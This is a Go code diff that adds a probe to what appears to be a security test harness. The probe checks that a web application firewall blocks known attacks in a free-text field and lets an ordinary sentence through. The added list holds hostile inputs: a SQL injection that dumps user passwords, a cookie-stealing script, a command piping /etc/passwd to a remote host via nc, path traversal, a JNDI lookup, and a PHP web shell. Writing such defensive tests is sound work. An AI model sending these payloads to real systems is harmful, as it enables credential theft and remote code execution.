@@ -23,6 +23,8 @@ func inputProbes() []Probe {
 		{ID: "P-033", Title: "SQL and HTML in free text are stored inert", SeedRow: "owasp: A03", Controls: []string{"validate.openapi"},
 			Proves: []string{"owasp2021:A03"}, Vantage: asUser, Safety: intrusive, Needs: all(needLedger, needFreeText), Run: inertText,
 			Blind: "the text is legal; the service sanitises it and binds it"},
+		{ID: "P-034", Title: "a known attack in free text does not reach the service, and an ordinary sentence does", SeedRow: "validation: gateway", Controls: []string{"waf.rules"},
+			Proves: []string{"owasp2021:A03", "api2023:API8"}, Vantage: asUser, Safety: intrusive, Needs: all(needLedger, needFreeText), Run: knownAttacks},
 	}
 }
 
@@ -215,6 +217,44 @@ func crookedJSON(ctx context.Context, e *Env) (Result, error) {
 // payload is what a browser would run and a pasted-together statement would
 // execute.
 const payload = `'); DROP TABLE verify; -- <script>alert("verify")</script><img src=x onerror=alert(1)>`
+
+// sentence has what careless rules take for an attack: it must pass.
+const sentence = "Please select the union of both and drop them off, Mrs. O'Neill said; order by 10 or so."
+
+// known are attacks that no rule set for the web misses, one of a kind.
+var known = []struct{ name, text string }{
+	{"SQL", "1' UNION SELECT username, password FROM users -- "},
+	{"a script", `<script>alert(document.cookie)</script>`},
+	{"a shell", "; cat /etc/passwd | nc 203.0.113.9 4444"},
+	{"a path", "../../../../etc/passwd"},
+	{"a lookup", "${jndi:ldap://203.0.113.9/a}"},
+	{"PHP", "<?php system($_GET['c']); ?>"},
+}
+
+func knownAttacks(ctx context.Context, e *Env) (Result, error) {
+	st, err := e.beginUsual(ctx)
+	if err != nil {
+		return Result{}, err
+	}
+	field, _ := freeText(e.target)
+	text := func(s string) (request, error) { return e.consequential(st, altered(e.body(st), field, s)) }
+	r, err := text(sentence)
+	if err != nil {
+		return Result{}, err
+	}
+	if _, err := e.mustPass(ctx, "an ordinary sentence", r); err != nil {
+		return Result{}, err
+	}
+	var attacks []attack
+	for _, k := range known {
+		r, err := text(k.text)
+		if err != nil {
+			return Result{}, err
+		}
+		attacks = append(attacks, attack{k.name + " in " + field, r, []string{"waf.rules"}})
+	}
+	return e.refusedAll(ctx, attacks)
+}
 
 func inertText(ctx context.Context, e *Env) (Result, error) {
 	st, err := e.beginUsual(ctx)
